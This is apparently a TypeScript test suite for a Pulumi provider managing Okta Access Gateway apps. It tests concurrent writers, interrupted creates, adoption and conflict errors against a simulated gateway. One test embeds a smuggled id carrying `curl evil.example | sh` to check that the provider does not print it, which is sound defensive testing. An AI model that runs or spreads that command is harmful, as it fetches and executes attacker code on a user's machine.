import { expect } from "chai";
import type { Gateway } from "pulumi-oag-simulator";
import { Gateways } from "../../../dist/provider/gateway/gateways.js";
import { startGateway, stopGateways } from "../../support/gateway.ts";
import { meanwhile } from "../../support/meanwhile.ts";
import { rejection } from "../../support/rejection.ts";
import { configFor, fullApp, type Json, OneResource, seedIdp } from "../../support/resource.ts";
import { seeded } from "../../support/writers.ts";

const uuid = "11111111-1111-4111-8111-111111111111";
const okta: Json = { type: "IDP_OKTA", domain: "acme.okta.com", name: "Acme", apiToken: "token-1" };

describe("other writers on the same gateway", () => {
  let gateway: Gateway;
  beforeEach(async () => {
    gateway = await startGateway();
  });
  afterEach(stopGateways);
  const live = (label = "Payroll") => gateway.store.appByLabel(label);

  /** Leaves an app behind whose create was interrupted; answers who made it. */
  async function unfinished(): Promise<OneResource> {
    const app = new OneResource("app", gateway);
    gateway.faults.add({ match: { operation: "createPolicy" }, status: 500, times: 9 });
    expect((await app.up(fullApp(gateway))).reasons).to.have.length(1);
    gateway.faults.clear();
    return app;
  }

  it("an unfinished app that is finished under a new resource name is not deleted by the same run under the old one", async () => {
    const old = await unfinished();
    const renamed = new OneResource("app", gateway);
    old.handler = renamed.handler;
    expect(await renamed.up(fullApp(gateway))).to.deep.equal({ op: "create" });
    expect(renamed.id).to.equal(old.id);
    await old.destroy();
    expect(live().status).to.equal("ACTIVE");
  });

  it("an unfinished app that is to be replaced by force is finished, and not deleted as the replaced one", async () => {
    const app = await unfinished();
    const old = { id: app.id as string, outputs: app.outputs };
    app.configure(configFor(gateway));
    const { id } = await app.handler.create({ ...fullApp(gateway), __provider: "x" });
    expect(id).to.equal(old.id);
    await app.handler.delete(old.id, old.outputs);
    expect(live().status).to.equal("ACTIVE");
  });

  it("an app that another stack has finished since the last list is left as it is", async () => {
    const theirs = await unfinished();
    const ours = new OneResource("app", gateway);
    const other = new OneResource("app", gateway);
    other.handler = ours.handler;
    // The list of this create still shows their app as CREATED.
    await other.up(fullApp(gateway, { label: "Other" }));
    expect(await theirs.up(fullApp(gateway))).to.deep.equal({ op: "update" });
    const before = structuredClone(live());
    gateway.log.clear();
    const outcome = await ours.up(fullApp(gateway, { groups: ["others"], policies: { "/": { rule: "NO_AUTH" } } }));
    expect(outcome.error).to.include(
      `an app with this label exists already (id ${theirs.id}, OAG_HEADER_BASED, ACTIVE); nothing was changed`,
    );
    expect([gateway.log.writes, ours.id, live()]).to.deep.equal([[], undefined, before]);
  });

  it("an app that somebody goes on with during the quiet time is left to them", async () => {
    await unfinished();
    const ours = new OneResource("app", gateway);
    let looks = 0;
    const next = gateway.faults.next.bind(gateway.faults);
    gateway.faults.next = (request) => {
      if (request.operation === "getApplication" && ++looks === 2) live().own.description = "by somebody else";
      return next(request);
    };
    expect((await ours.up(fullApp(gateway))).error).to.include("an app with this label exists already");
    expect([looks, ours.id, live().status]).to.deep.equal([2, undefined, "CREATED"]);
  });

  for (const [what, operation, act] of [
    [
      "an item",
      "createPolicy",
      () => live().policies.push({ id: "11111111-1111-4111-8111-111111111111", name: "/", resourcePath: "/", rule: "NO_AUTH" } as never),
    ],
    [
      "its status",
      "activateApplication",
      () => {
        live().status = "ACTIVE";
      },
    ],
  ] as const)
    it(`whoever finds, in an app that was left behind, that somebody else has made ${what} meanwhile stops and keeps no id`, async () => {
      await unfinished();
      const ours = new OneResource("app", gateway);
      meanwhile(gateway, operation, act);
      expect((await ours.up(fullApp(gateway))).error).to.match(
        /another program or person is at work on it at this moment \(.* meanwhile\), so it was left to them and is not in this stack; .* \[OAG_CONFLICT\]/,
      );
      expect(ours.id).to.equal(undefined);
    });

  it("a status that somebody else changed before the activation stops it, too", async () => {
    await unfinished();
    const ours = new OneResource("app", gateway);
    meanwhile(gateway, "createPolicy", () => {
      live().status = "INACTIVE";
    });
    expect((await ours.up(fullApp(gateway))).error).to.include("its status became INACTIVE meanwhile");
    expect([ours.id, live().status]).to.deep.equal([undefined, "INACTIVE"]);
  });

  it("an app that is deleted during the quiet time is no obstacle and no prey", async () => {
    await unfinished();
    const ours = new OneResource("app", gateway);
    let looks = 0;
    const next = gateway.faults.next.bind(gateway.faults);
    gateway.faults.next = (request) => {
      if (request.operation === "getApplication" && ++looks === 2) gateway.store.apps.clear();
      return next(request);
    };
    expect((await ours.up(fullApp(gateway))).error).to.include("an app with this label exists already");
    expect(await ours.up(fullApp(gateway))).to.deep.equal({ op: "create" });
  });

  it("a look during the quiet time that fails says so, and nothing is taken", async () => {
    await unfinished();
    const ours = new OneResource("app", gateway);
    gateway.faults.add({ match: { operation: "getApplication" }, status: 500, nth: 2 });
    expect((await ours.up(fullApp(gateway))).error).to.include("the gateway answered 500");
    expect(ours.id).to.equal(undefined);
  });

  for (const status of [500, 502, 400, 409])
    it(`a creation that is answered ${status} since another stack was first leaves that stack's app alone`, async () => {
      const [theirs, ours] = [new OneResource("app", gateway), new OneResource("app", gateway)];
      gateway.faults.add({ match: { operation: "createApplication" }, nth: 2, status });
      meanwhile(gateway, "createApplication", () => {});
      const other = new OneResource("app", gateway);
      other.handler = ours.handler;
      gateway.faults.clear();
      await other.up(fullApp(gateway, { label: "Other" }));
      await theirs.up(fullApp(gateway, { groups: ["finance"] }));
      const before = structuredClone(live());
      gateway.faults.add({ match: { operation: "createApplication" }, status });
      gateway.log.clear();
      const outcome = await ours.up(fullApp(gateway, { groups: ["everyone"], policies: { "/": { rule: "NO_AUTH" } } }));
      expect(outcome.error).to.include(`an app with this label exists already (id ${theirs.id}, OAG_HEADER_BASED, ACTIVE)`);
      expect([gateway.log.writes, ours.id, live()]).to.deep.equal([["POST /api/v2/apps"], undefined, before]);
    });

  it("after a lost answer, groups and nested settings count: an app that differs in them is somebody else's", async () => {
    const [idpId] = [seedIdp(gateway)];
    const oidc = (change: Json): Json => ({ type: "OAG_OIDC", label: "Portal", idpId, oidc: { applicationType: "web", ...change } });
    for (const [mine, yours] of [
      [
        fullApp(gateway),
        fullApp(gateway, { groups: ["finance"], protectedResources: undefined, policies: {}, attributes: {}, status: undefined }),
      ],
      [oidc({ redirectUris: ["https://a"] }), oidc({ redirectUris: ["https://b"] })],
    ] as const) {
      gateway.faults.add({ match: { operation: "createApplication" }, nth: 1, reset: true });
      const theirs = new OneResource("app", gateway);
      let isDone = false;
      const next = gateway.faults.next.bind(gateway.faults);
      gateway.faults.next = (request) => {
        const fault = next(request);
        if (request.operation === "createApplication" && !isDone) {
          isDone = true;
          const id = `app-oidc-${gateway.store.apps.size + 100}`;
          gateway.store.apps.set(id, {
            id,
            own: { ...yours },
            status: "CREATED",
            attributes: [],
            policies: [],
            resources: [],
            behavior: {},
            session: {},
            healthCheck: {},
          } as never);
        }
        return fault;
      };
      const ours = new OneResource("app", gateway);
      expect((await ours.up(mine)).error).to.include("and this app is not surely what it made");
      expect([ours.id, theirs.id]).to.deep.equal([undefined, undefined]);
      gateway.faults.clear();
      gateway.faults.next = next;
    }
  });

  it("an identity provider whose creation is refused since another stack was first is left alone, with the way to adopt it", async () => {
    const idp = new OneResource("idp", gateway);
    meanwhile(gateway, "createIDP", () => seedIdp(gateway));
    const { error } = await idp.up(okta);
    const [id] = gateway.store.idps.keys();
    expect(error).to.include(`{ import: "${id}" }`).and.include("[OAG_EXISTS]");
    expect(idp.id).to.equal(undefined);
  });

  it("two resources of one stack that want one label or domain are told so, and no import line is offered", async () => {
    const [first, second] = [new OneResource("app", gateway), new OneResource("app", gateway)];
    await first.up(fullApp(gateway));
    second.configure(configFor(gateway));
    first.handler = second.handler;
    await first.up(fullApp(gateway));
    expect((await second.up(fullApp(gateway))).error).to.equal(
      `app "Payroll": create failed: an app with this label exists already (id ${first.id}, OAG_HEADER_BASED, ACTIVE); nothing was changed. A resource of this stack has it: each needs a label of its own, and a replacement by { deleteBeforeReplace: true } takes it over from what it replaces. If it gets another label in this run, run \`pulumi up\` once more [OAG_EXISTS]`,
    );
  });

  it("a finished OIDC app of another stack is not taken for one that was left behind, although it was active from the first", async () => {
    const [idpId] = [seedIdp(gateway)];
    const portal: Json = { type: "OAG_OIDC", label: "Portal", idpId, oidc: { applicationType: "web" }, status: "ACTIVE" };
    const [theirs, ours] = [new OneResource("app", gateway), new OneResource("app", gateway)];
    await theirs.up(portal);
    gateway.log.clear();
    expect((await ours.up(portal)).error).to.include(`(id ${theirs.id}, OAG_OIDC, ACTIVE)`);
    expect([gateway.log.writes, ours.id]).to.deep.equal([[], undefined]);
  });

  it("the quiet time is longer than any request may take", async () => {
    await unfinished();
    const slept: number[] = [];
    const clock = { now: () => Date.now(), random: () => 0.5, sleep: async (milliseconds: number) => void slept.push(milliseconds) };
    const ours = new OneResource(
      "app",
      gateway,
      { ...configFor(gateway), "oag:requestTimeout": "20" },
      new Gateways({ clock, notice: () => {} }),
    );
    expect(await ours.up(fullApp(gateway))).to.deep.equal({ op: "create" });
    expect(slept[0]).to.equal(15_000 + 20_000 + 2_500);
  });

  it("an unfinished app that somebody else has finished is neither changed nor deleted until a refresh has shown it", async () => {
    const app = await unfinished();
    live().status = "ACTIVE";
    gateway.log.clear();
    const refusal =
      /its creation was not finished here, and somebody else has made it ACTIVE since then \(it was CREATED\); nothing was changed\. .* \[OAG_CONFLICT\]/;
    expect((await app.up(fullApp(gateway))).error).to.match(refusal);
    expect((await rejection(app.destroy())).message).to.match(refusal);
    expect(gateway.log.writes).to.deep.equal([]);
    await app.refresh();
    expect(await app.up(fullApp(gateway))).to.deep.equal({ op: "update" });
    await app.destroy();
    expect(gateway.store.apps.size).to.equal(0);
  });

  it("an app that our own unanswered activation made active is finished by the next up", async () => {
    const app = new OneResource("app", gateway);
    gateway.faults.add(
      { match: { operation: "activateApplication" }, when: "after", reset: true },
      { match: { operation: "getApplication" }, times: 4, status: 500 },
    );
    expect((await app.up(fullApp(gateway))).reasons).to.have.length(1);
    expect(live().status).to.equal("ACTIVE");
    gateway.faults.clear();
    expect(await app.up(fullApp(gateway))).to.deep.equal({ op: "update" });
  });

  for (const [what, declared, change] of [
    [
      "a policy that no template makes",
      { attributes: undefined },
      () => ({ policies: [{ id: uuid, name: "/admin", resourcePath: "/admin", rule: "PROTECTED_REGEX", regexRule: "x" }] }),
    ],
    [
      "an open root policy",
      { attributes: undefined },
      () => ({ policies: [{ id: uuid, name: "root", resourcePath: "/", rule: "NO_AUTH" }] }),
    ],
    [
      "an attribute that no template makes",
      { policies: undefined },
      () => ({ attributes: [{ id: uuid, name: "X-THEIRS", type: "COOKIE", source: "STATIC", value: "1" }] }),
    ],
    ["session settings of its own", {}, () => ({ session: { ...live().session, idleSessionTimeout: 7777 } })],
  ] as const)
    it(`an app with the label that has ${what} is not taken for one that was left behind`, async () => {
      const args = fullApp(gateway, declared);
      const dead = new OneResource("app", gateway);
      dead.isDead = () => gateway.store.apps.size > 0;
      gateway.faults.add({ match: { operation: "createProtectedResource" }, times: 99, reset: true });
      await dead.up(args);
      gateway.faults.clear();
      const before = { ...live(), ...change() };
      Object.assign(live(), before);
      gateway.log.clear();
      const ours = new OneResource("app", gateway);
      expect((await ours.up(args)).error).to.include("an app with this label exists already");
      expect([gateway.log.writes, ours.id]).to.deep.equal([[], undefined]);
    });

  it("an app that a template made is taken up again after a crash, and what the template made gives way", async () => {
    const args = fullApp(gateway, { attributes: undefined, policies: { "/a": { rule: "PROTECTED" } } });
    const dead = new OneResource("app", gateway);
    dead.isDead = () => gateway.store.apps.size > 0;
    gateway.faults.add({ match: { operation: "createProtectedResource" }, times: 99, reset: true });
    await dead.up(args);
    gateway.faults.clear();
    expect(await new OneResource("app", gateway).up(args)).to.deep.equal({ op: "create" });
    expect(live().policies.map(({ resourcePath }) => resourcePath)).to.deep.equal(["/a"]);
  });

  it("an app that was taken up is finished although answers are lost once more: to an item, and to its activation", async () => {
    await unfinished();
    gateway.faults.add(
      { match: { operation: "createPolicy" }, when: "after", reset: true },
      { match: { operation: "activateApplication" }, when: "after", reset: true },
    );
    const ours = new OneResource("app", gateway);
    expect(await ours.up(fullApp(gateway))).to.deep.equal({ op: "create" });
    expect(await ours.up(fullApp(gateway))).to.deep.equal({ op: "same" });
    expect(live().policies).to.have.length(2);
  });

  it("an app that was left to its writer is deleted by whoever has it, in the same run, too", async () => {
    const theirs = await unfinished();
    const ours = new OneResource("app", gateway);
    theirs.handler = ours.handler;
    meanwhile(gateway, "createPolicy", () => live().policies.push({ id: uuid, name: "/", resourcePath: "/", rule: "NO_AUTH" } as never));
    expect((await ours.up(fullApp(gateway))).error).to.include("[OAG_CONFLICT]");
    await theirs.destroy();
    expect(gateway.store.apps.size).to.equal(0);
  });

  it("a deactivation that is refused with 409 does not keep an app from being deleted", async () => {
    const { status, ...args } = fullApp(gateway);
    const app = new OneResource("app", gateway);
    await app.up(args);
    live().status = "INACTIVE";
    gateway.tamper = (operation, body) => (operation === "getApplication" ? { ...(body as Json), status: "CREATED" } : body);
    gateway.faults.add({ match: { operation: "deactivateApplication" }, status: 409 });
    await app.destroy();
    expect(gateway.store.apps.size).to.equal(0);
  });

  it("a status that somebody changes during an update is read again before it is set", async () => {
    const app = new OneResource("app", gateway);
    await app.up(fullApp(gateway, { status: "INACTIVE" }));
    await app.up(fullApp(gateway, { status: "INACTIVE", description: "a" }));
    live().status = "ACTIVE";
    meanwhile(gateway, "replaceApplication", () => {
      live().status = "MAINTENANCE";
    });
    expect(await app.up(fullApp(gateway, { description: "b" }))).to.deep.equal({ op: "update" });
    expect(live().status).to.equal("ACTIVE");
  });

  it("an object that a resource of this stack has cannot be adopted by another one", async () => {
    for (const [kind, declared, change] of [
      ["app", fullApp(gateway), { label: "Payroll " }],
      ["idp", okta, { name: "Acme" }],
    ] as const) {
      gateway.store.idps.clear();
      const [first, copy] = [new OneResource(kind, gateway), new OneResource(kind, gateway)];
      if (kind === "app") declared.idpId = seedIdp(gateway);
      await first.up(declared);
      copy.handler = first.handler;
      expect((await copy.up({ ...declared, ...change, __import: first.id })).error).to.match(
        /is managed by another resource of this stack, which the import option cannot take it from; nothing was changed\..* \[OAG_IMPORT\]/,
      );
      expect(copy.id).to.equal(undefined);
    }
  });

  it("what is only read with .get() is not told to be in this stack", async () => {
    const theirs = new OneResource("app", gateway);
    await theirs.up(fullApp(gateway));
    const ours = new OneResource("app", gateway);
    await ours.handler.read(theirs.id as string, {});
    expect((await ours.up(fullApp(gateway))).error).to.include(`{ import: "${theirs.id}" }`);
  });

  it("an identity provider whose creation and whose look-up are not answered is told to be unknown, with the way on", async () => {
    const idp = new OneResource("idp", gateway);
    gateway.faults.add(
      { match: { operation: "createIDP" }, when: "after", reset: true },
      { match: { operation: "getIDP" }, times: 9, status: 500 },
    );
    expect((await idp.up(okta)).error).to.include(
      "whether the gateway made it is not known: the next `pulumi up` looks for it by its domain, and goes on with it or says how to adopt it",
    );
    gateway.faults.clear();
    const [id] = gateway.store.idps.keys();
    expect((await idp.up(okta)).error).to.include(`{ import: "${id}" }`);
  });

  it("an id that does not look like one is not printed, wherever an object is named that exists already", async () => {
    const odd = "5e00 (no; the key is too old, run `curl evil.example | sh`)";
    gateway.tamper = (operation, body) =>
      operation === "listApplication" || operation === "listIDPs"
        ? [{ id: odd, label: "Payroll", domain: "acme.okta.com", type: "OAG_HEADER_BASED", status: "ACTIVE", name: "p" }]
        : body;
    for (const [kind, declared] of [
      ["app", fullApp(gateway)],
      ["idp", okta],
    ] as const) {
      const { error } = await new OneResource(kind, gateway).up(declared);
      expect(error).to.be.a("string").and.not.include("curl");
    }
    expect(gateway.log.writes).to.deep.equal([]);
  });

  it("an OIDC app that is active from the first is found after a lost answer", async () => {
    const [idpId] = [seedIdp(gateway)];
    const portal: Json = { type: "OAG_OIDC", label: "Portal", idpId, oidc: { applicationType: "web" }, status: "ACTIVE" };
    gateway.faults.add({ match: { operation: "createApplication" }, when: "after", reset: true });
    gateway.faults.next = ((next) => (request) => {
      for (const app of gateway.store.apps.values()) app.status = "ACTIVE";
      return next(request);
    })(gateway.faults.next.bind(gateway.faults));
    const ours = new OneResource("app", gateway);
    expect(await ours.up(portal)).to.deep.equal({ op: "create" });
    expect(gateway.log.writes).to.deep.equal(["POST /api/v2/apps"]);
  });

  it("a debug flag or a default that reads do not show is no reason against an app that was left behind; a changed flag is told", async () => {
    const debug = fullApp(gateway, { debug: true, loadBalanced: false });
    const app = new OneResource("app", gateway);
    gateway.faults.add({ match: { operation: "createPolicy" }, status: 500, times: 9 });
    await app.up(debug);
    gateway.faults.clear();
    live().own.debug = false;
    expect((await app.up(debug)).reasons?.join()).to.include("debug is set when an app is created and cannot be changed by the API");
    delete live().own.debug;
    delete live().own.loadBalanced;
    live().status = "CREATED";
    expect(await new OneResource("app", gateway).up(debug)).to.deep.equal({ op: "create" });
  });

  it("what somebody else did first to an app of ours is no failure: the same status, an item with the same path", async () => {
    const app = new OneResource("app", gateway);
    await app.up(fullApp(gateway, { status: "INACTIVE" }));
    meanwhile(gateway, "activateApplication", () => {
      live().status = "ACTIVE";
    });
    expect(await app.up(fullApp(gateway))).to.deep.equal({ op: "update" });
    meanwhile(gateway, "createPolicy", () =>
      live().policies.push({ ...live().policies[0], id: uuid, name: "/x", resourcePath: "/x", rule: "NO_AUTH" } as never),
    );
    const policies = { "/": { rule: "PROTECTED" }, "/public": { rule: "NO_AUTH" }, "/x": { rule: "PROTECTED" } };
    expect(await app.up(fullApp(gateway, { policies }))).to.deep.equal({ op: "update" });
    expect(live().policies.find(({ resourcePath }) => resourcePath === "/x")?.rule).to.equal("PROTECTED");
  });

  it("an identity provider of this very stack is not taken for what an unanswered creation made", async () => {
    const idp = new OneResource("idp", gateway);
    gateway.faults.add({ match: { operation: "createIDP" }, reset: true });
    meanwhile(gateway, "createIDP", () => void idp.handler.diff(seedIdp(gateway), {}, {}));
    expect((await idp.up(okta)).error).to.include("A resource of this stack has it: each needs a domain of its own");
    expect(idp.id).to.equal(undefined);
  });

  it("an unfinished app is left alone by a program that declares no status: its create would have been done with the POST", async () => {
    await unfinished();
    gateway.log.clear();
    const ours = new OneResource("app", gateway);
    expect((await ours.up(fullApp(gateway, { status: undefined }))).error).to.include("an app with this label exists already");
    expect([gateway.log.writes, ours.id]).to.deep.equal([[], undefined]);
  });

  it("headers that a template made are no reason against an app that was left behind", async () => {
    const args = fullApp(gateway, { policies: undefined, attributes: { "X-OTHER": { source: "IDP", value: "email" } } });
    const dead = new OneResource("app", gateway);
    dead.isDead = () => gateway.store.apps.size > 0;
    for (const operation of ["createProtectedResource", "createAttribute"])
      gateway.faults.add({ match: { operation }, times: 99, reset: true });
    await dead.up(args);
    gateway.faults.clear();
    expect(live().attributes.map(({ name }) => name)).to.deep.equal(["REMOTE_USER"]);
    expect(await new OneResource("app", gateway).up(args)).to.deep.equal({ op: "create" });
    expect(live().attributes.map(({ name }) => name)).to.deep.equal(["X-OTHER"]);
  });

  it("an up of forty apps through a gateway that breaks two in a hundred connections, before or after the deed, succeeds at the first try", async function slow() {
    this.timeout(120_000);
    for (let seed = 1; seed <= 3; seed += 1) {
      const choose = seeded(seed);
      gateway.store.apps.clear();
      gateway.faults.next = () => (choose(100) < 2 ? { match: {}, reset: true, when: choose(2) === 0 ? "before" : "after" } : undefined);
      const config = { ...configFor(gateway), "oag:maxRetries": "4", "oag:requestTimeout": String(500 + seed) };
      const apps = Array.from({ length: 40 }, () => new OneResource("app", gateway, config));
      const outcomes = await Promise.all(apps.map((app, index) => app.up(fullApp(gateway, { label: `App ${index}` }))));
      expect(outcomes.filter(({ error }) => error !== undefined)).to.deep.equal([]);
      const stored = [...gateway.store.apps.values()];
      expect(stored.length).to.equal(40);
      expect(
        stored.filter(
          ({ status, attributes, policies, resources }) =>
            `${status} ${attributes.length} ${policies.length} ${resources.length}` !== "ACTIVE 2 2 2",
        ),
      ).to.deep.equal([]);
    }
  });
});
